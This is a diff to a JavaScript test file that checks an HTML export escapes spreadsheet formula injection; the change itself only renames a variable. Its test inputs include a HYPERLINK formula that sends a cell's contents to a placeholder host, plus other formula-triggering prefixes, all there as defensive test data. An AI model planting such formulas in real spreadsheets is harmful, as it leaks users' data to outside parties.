@@ -107,11 +107,11 @@ const RUN = ['=HYPERLINK("https://a.example/?"&A1,"b")', '+1', '-1+2', '@SUM(A1)
 
 test.each(RUN)('a spreadsheet takes %j for a text, and this program for what it was', (text) => {
   const html = formatValues(blockOf('Note', stringOf(text)));
-  const [, style, number, told = ''] =
+  const [, style, number, reported = ''] =
     /<td style="([^"]*)" sdnum="([^"]*)" data-sheets-value="([^"]*)"/.exec(html) ?? [];
   expect(style).toBe("mso-number-format:'\\@'");
   expect(number).toBe('1033;0;@');
-  expect(JSON.parse(told.replaceAll('&quot;', '"').replaceAll('&amp;', '&'))).toEqual({
+  expect(JSON.parse(reported.replaceAll('&quot;', '"').replaceAll('&amp;', '&'))).toEqual({
     1: 2,
     2: text,
   });
